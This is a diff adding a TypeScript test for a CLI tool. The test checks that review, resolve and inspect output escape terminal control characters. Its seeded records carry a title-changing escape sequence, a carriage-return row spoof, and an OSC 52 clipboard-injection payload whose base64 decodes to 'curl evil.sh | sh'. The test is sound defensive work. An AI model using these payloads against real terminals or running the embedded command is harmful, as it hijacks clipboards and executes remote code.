@@ -94,6 +94,41 @@ describe("store text on the terminal", () => {
   });
 });
 
+describe("records that need a person, on the terminal", () => {
+  it("review, resolve and the trail in inspect show escape keys, scopes, tools, evidence and names", async () => {
+    const path = join(mkdtempSync(join(tmpdir(), "idempotool-cli-escapes-review-")), "records.db");
+    const store = sqliteStore({ path });
+    await seedRecord(store, { key: title, scope, tool, status: "unknown", now: Date.now() });
+    await store.close();
+    const reviewUrl = `sqlite://${path}`;
+    const review = await cli(["review", "--store", reviewUrl]);
+    expect(review.code, review.stderr).toBe(1);
+    expect(review.stdout + review.stderr).not.toMatch(raw);
+    expect(review.stdout).toContain("turn-2\\u001b]0;you have been pwned\\u0007");
+    const resolved = await cli([
+      "resolve",
+      scope,
+      title,
+      "--store",
+      reviewUrl,
+      "--as",
+      "completed",
+      "--result",
+      "{}",
+      "--evidence",
+      fakeRow,
+      "--by",
+      clipboard,
+    ]);
+    expect(resolved.code, resolved.stderr).toBe(0);
+    expect(resolved.stdout + resolved.stderr).not.toMatch(raw);
+    const show = await cli(["inspect", "show", scope, title, "--store", reviewUrl]);
+    expect(show.stdout + show.stderr).not.toMatch(raw);
+    expect(show.stdout).toContain("    evidence: turn-3\\rdefault  turn-9-fake");
+    expect(show.stdout).toContain("turn-1\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007  as completed");
+  });
+});
+
 describe("printable", () => {
   it("escapes C0, DEL, C1 and bidi controls, and leaves other text alone", () => {
     expect(printable("a\u0000b\u007fc\u0085d\u200fe\u2067f\tg\nh")).toBe(
